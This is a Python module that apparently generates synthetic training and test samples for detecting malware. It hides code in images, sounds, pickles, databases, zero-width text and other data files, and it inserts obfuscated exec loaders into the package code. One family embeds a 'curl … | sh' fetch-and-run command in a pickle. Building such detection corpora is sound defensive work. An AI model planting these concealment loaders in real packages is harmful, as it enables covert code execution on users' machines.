"""Payloads that a data file of the release carries, with a small loader in the code."""

import base64
import zlib
from posixpath import basename, dirname

from jobs.corpus.payloads import carriers
from jobs.corpus.payloads.contract import Family
from jobs.corpus.payloads.draft import Draft
from jobs.corpus.payloads.source_places import as_function


def _load(draft: Draft, filename: str, content: bytes | str, loader: str, *, folder: str = "") -> None:
    """Put a data file beside the package and a loader, in which `@path@` is the file's path, where code runs."""
    rng = draft.rng
    folder = folder or rng.choice(("", "", "data/", "assets/", "static/", "resources/", "_data/"))
    path = f"{folder}{filename}"
    draft.put_new(f"{draft.folder}{path}", content)
    targets = [draft.init]
    if rng.random() < 0.45:
        targets = draft.inner()
    target = targets[0]
    up = "os.path.dirname(" * target.removeprefix(draft.folder).count("/")
    here = f"{up}os.path.dirname(os.path.abspath(__file__)){')' * up.count('(')}"
    pieces = ", ".join(repr(part) for part in path.split("/"))
    text = "import os\n" + draft.words.render(loader.replace("@path@", f"os.path.join({here}, {pieces})"))
    if rng.random() < 0.5:
        name = draft.words.name()
        imports = [line for line in text.splitlines() if line.startswith(("import ", "from "))]
        body = "\n".join(line for line in text.splitlines() if line not in imports)
        text = "\n".join(imports) + f"\n\n\n{as_function(body, name, rng)}\n\n{name}()\n"
    draft.insert(target, text)


def _name(draft: Draft, suffix: str) -> str:
    return f"{draft.words.word()}{draft.rng.choice(('', '_small', '-v2', '_en', '01'))}{suffix}"


def blob(draft: Draft) -> None:
    """Carry the code in a binary file, combined with a key."""
    key = draft.rng.randbytes(draft.rng.choice((1, 8, 16)))
    data = carriers.xor(zlib.compress(draft.triggered().encode()), key)
    _load(draft, _name(draft, draft.rng.choice((".bin", ".dat", ".cache"))), data, (
        f"import zlib\n@n5@ = open(@path@, 'rb').read()\n@n6@ = {key!r}\n"
        "exec(zlib.decompress(bytes(@n7@ ^ @n6@[@n8@ % len(@n6@)] for @n8@, @n7@ in enumerate(@n5@))))\n"
    ))  # fmt: skip


def settings(draft: Draft) -> None:
    """Carry the code as a value of a JSON file."""
    value = base64.b64encode(draft.triggered().encode()).decode()
    text = carriers.json_settings(value, draft.rng)
    key = next(k for k in ("model", "checksum", "signature", "schema", "seed") if f'"{k}": "' in text)
    _load(draft, _name(draft, ".json"), text, (
        f"import base64\nimport json\nwith open(@path@) as @n5@:\n    @n6@ = json.load(@n5@)['settings']\nexec(base64.b64decode(@n6@['{key}']))\n"
    ))  # fmt: skip


def template(draft: Draft) -> None:
    """Carry the code, as it is or encoded, in a text file that is compiled."""
    code = draft.triggered()
    if draft.rng.random() < 0.5:
        _load(draft, _name(draft, draft.rng.choice((".tmpl", ".txt", ".j2"))), code,
              "exec(compile(open(@path@).read(), '<template>', 'exec'))\n")  # fmt: skip
    else:
        _load(draft, _name(draft, ".txt"), code.encode().hex(), "exec(bytes.fromhex(open(@path@).read()).decode())\n")


def picture_tail(draft: Draft) -> None:
    """Carry the code behind the end of a picture."""
    code = zlib.compress(draft.triggered().encode())
    picture = carriers.png(draft.rng.randbytes(900), trailer=code)
    _load(draft, _name(draft, ".png"), picture, (
        "import zlib\nwith open(@path@, 'rb') as @n5@:\n    @n6@ = @n5@.read()\n"
        "exec(zlib.decompress(@n6@[@n6@.rindex(b'IEND') + 8:]))\n"
    ))  # fmt: skip


def picture_text(draft: Draft) -> None:
    """Carry the code in a text chunk of a picture."""
    code = base64.b64encode(draft.triggered().encode())
    picture = carriers.png(draft.rng.randbytes(2_000), text=("Comment", code))
    _load(draft, _name(draft, ".png"), picture, (
        "import base64\nimport re\n@n5@ = re.search(rb'tEXtComment\\0([A-Za-z0-9+/=]+)', open(@path@, 'rb').read())\n"
        "if @n5@:\n    exec(base64.b64decode(@n5@[1]))\n"
    ))  # fmt: skip


def picture_pixels(draft: Draft) -> None:
    """Carry the code in the lowest bits of a picture's pixels."""
    code = zlib.compress(draft.triggered().encode())
    data = len(code).to_bytes(4, "big") + code
    noise = draft.rng.randbytes(len(data) * 8)
    pixels = bytes(noise[at] & 254 | data[at >> 3] >> (7 - at & 7) & 1 for at in range(len(noise)))
    _load(draft, _name(draft, ".png"), carriers.png(pixels, width=128), (
        "import zlib\nfrom PIL import Image\n@n5@ = [@n6@ & 1 for @n6@ in Image.open(@path@).getdata()]\n"
        "@n7@ = bytes(int(''.join(map(str, @n5@[@n8@:@n8@ + 8])), 2) for @n8@ in range(0, len(@n5@), 8))\n"
        "getattr(__import__('builtins'), 'exec')(zlib.decompress(@n7@[4:4 + int.from_bytes(@n7@[:4], 'big')]))\n"
    ))  # fmt: skip


def sound(draft: Draft) -> None:
    """Carry the code in the frames of a sound, combined with its first frames."""
    key = draft.rng.randbytes(8)
    frames = key + carriers.xor(base64.b64encode(draft.triggered().encode()), key)
    _load(draft, _name(draft, ".wav"), carriers.wav(frames), (
        "import base64\nimport wave\nfrom itertools import cycle\nwith wave.open(@path@) as @n5@:\n    @n6@ = @n5@.readframes(@n5@.getnframes())\n"
        "@n7@ = bytes(a ^ b for a, b in zip(@n6@[8:], cycle(@n6@[:8])))\n"
        "__import__('builtins').__dict__['ex' 'ec'](base64.b64decode(@n7@).decode(), {'__name__': '__main__'})\n"
    ))  # fmt: skip


def words(draft: Draft) -> None:
    """Carry the code as a list of words, each of which stands for a byte."""
    text = carriers.word_list(zlib.compress(draft.triggered().encode()), draft.rng)
    _load(draft, _name(draft, ".txt"), text, (
        "import zlib\n@n5@ = open(@path@).read().split()\n@n6@ = {w: i for i, w in enumerate(@n5@[:256])}\n"
        "@n7@ = compile(zlib.decompress(bytes(map(@n6@.get, @n5@[256:]))), __name__, 'exec')\nimport types\ntypes.FunctionType(@n7@, globals())()\n"
    ))  # fmt: skip


def invisible(draft: Draft) -> None:
    """Carry the code in a text file whose line ends have letters that nobody sees."""
    bits = "".join(f"{byte:08b}" for byte in zlib.compress(draft.triggered().encode(), 9))
    letters = bits.replace("0", "\u200b").replace("1", "\u200c")
    lines = [f"{draft.words.word()} {draft.words.word()}" for _ in range(40)]
    size = -(-len(letters) // 40)
    text = "\n".join(line + letters[at * size : at * size + size] for at, line in enumerate(lines)) + "\n"
    _load(draft, "NOTICE.txt", text, (
        "import zlib\n@n5@ = [str('\\u200b\\u200c'.index(c)) for c in open(@path@, encoding='utf-8').read() if c in '\\u200b\\u200c']\n"
        "@n6@ = zlib.decompress(int(''.join(@n5@), 2).to_bytes(len(@n5@) // 8, 'big'))\nimport runpy\n"
        "runpy._run_code(compile(@n6@, '@word@', 'exec'), {}, mod_name='@word@')\n"
    ))  # fmt: skip


def database(draft: Draft) -> None:
    """Carry the code as a value of a database."""
    rows = [(draft.words.word() + str(at), draft.rng.randbytes(40)) for at in range(20)]
    rows.append(("zz", draft.triggered().encode()[::-1]))
    _load(draft, _name(draft, ".db"), carriers.sqlite(rows), (
        "import sqlite3\n@n5@ = sqlite3.connect(@path@).execute(\"select value from entries where name = 'zz'\").fetchone()[0]\n"
        "exec(compile(@n5@[::-1], '@word@', 'exec'))\n"
    ))  # fmt: skip


def pickled_command(draft: Draft) -> None:
    """Bring a pickle that starts a command when it is loaded."""
    module, function = draft.rng.choice(
        (("os", "system"), ("posix", "system"), ("subprocess", "getoutput"), ("os", "popen"))
    )
    data = carriers.calling_pickle(module, function, draft.words.render("curl -fsS @url@ | sh"))
    _load(draft, _name(draft, draft.rng.choice((".pkl", ".pickle", ".joblib"))), data,
          draft.rng.choice(("import pickle\nwith open(@path@, 'rb') as @n5@:\n    @n6@ = pickle.load(@n5@)\n",
                            "import joblib\n@n6@ = joblib.load(@path@)\n")))  # fmt: skip


def pickled_code(draft: Draft) -> None:
    """Bring a saved model that executes Python when it is loaded."""
    data = carriers.torch_file(carriers.calling_pickle("builtins", "exec", draft.triggered()), draft.rng)
    _load(draft, _name(draft, draft.rng.choice((".pt", ".pth.tar", ".ckpt"))), data,
          "import torch\n@n6@ = torch.load(@path@, weights_only=False)\n")  # fmt: skip


def catalogue(draft: Draft) -> None:
    """Carry the code as a translated message."""
    text = base64.b64encode(draft.triggered().encode()).decode()
    entries = [("", "Content-Type: text/plain; charset=UTF-8\n"), ("about", text), ("yes", "ja"), ("no", "nein")]
    _load(draft, "messages.mo", carriers.message_catalogue(entries), (
        "import base64\nimport gettext\nwith open(@path@, 'rb') as @n5@:\n    @n6@ = gettext.GNUTranslations(@n5@)\n"
        "[f(base64.b64decode(@n6@.gettext('about'))) for k, f in vars(__import__('builtins')).items() if k == 'exec']\n"
    ), folder="locale/de/LC_MESSAGES/")  # fmt: skip


def sourceless(draft: Draft) -> None:
    """Bring a compiled module without its source."""
    target = draft.init
    name = draft.module_name(draft.folder)
    draft.put_new(f"{dirname(target)}/{name}.pyc", carriers.bytecode(draft.code()))
    draft.insert(target, f"from . import {name}\n")


def marshalled(draft: Draft) -> None:
    """Carry a marshalled code object in a data file."""
    _load(draft, _name(draft, ".idx"), carriers.bytecode(draft.triggered()),
          "import marshal\nexec(marshal.loads(open(@path@, 'rb').read()[16:]))\n")  # fmt: skip


def zip_app(draft: Draft) -> None:
    """Bring a zip application and start it."""
    name = _name(draft, draft.rng.choice((".pyz", ".zip", ".dat")))
    _load(draft, name, carriers.zip_application(draft.triggered()), (
        "import subprocess\nimport sys\nsubprocess.Popen([sys.executable, @path@], start_new_session=True)\n"
    ))  # fmt: skip


def documented(draft: Draft) -> None:
    """Carry the code in the docstring of a new module, encoded by Ascii85."""
    text = base64.a85encode(draft.triggered().encode()).decode().replace("\\", "\\\\").replace('"', '\\"')
    name = basename(draft.add_module(draft.init, f'"""{text}"""\n')).removesuffix(".py")
    draft.insert(draft.init, draft.words.render(
        f"import base64\nfrom importlib import import_module as @n5@\nexec(base64.a85decode(@n5@('{draft.import_name}.{name}').__doc__))\n"
    ))  # fmt: skip


FAMILIES = (
    Family("blob-file", "data", "train", blob, dress="xor-file"),
    Family("settings-value", "data", "train", settings, dress="base64-file"),
    Family("template-file", "data", "train", template, dress="text-file"),
    Family("picture-tail", "data", "train", picture_tail, dress="picture-tail"),
    Family("picture-text", "data", "valid", picture_text, dress="picture-text"),
    Family("picture-pixels", "data", "test", picture_pixels, dress="picture-pixels"),
    Family("sound", "data", "test", sound, dress="sound"),
    Family("word-list", "data", "test", words, dress="word-list"),
    Family("invisible-file", "data", "test", invisible, dress="invisible-file"),
    Family("database-value", "data", "valid", database, dress="database"),
    Family("pickle-command", "data", "train", pickled_command, dress="pickle", takes_trigger=False),
    Family("model-code", "data", "test", pickled_code, dress="model"),
    Family("message-catalogue", "data", "test", catalogue, dress="catalogue"),
    Family("bytecode-module", "data", "train", sourceless),
    Family("marshalled-file", "data", "valid", marshalled, dress="marshal-file"),
    Family("zip-application", "data", "test", zip_app, dress="zip-application"),
    Family("docstring", "data", "train", documented, dress="docstring"),
)
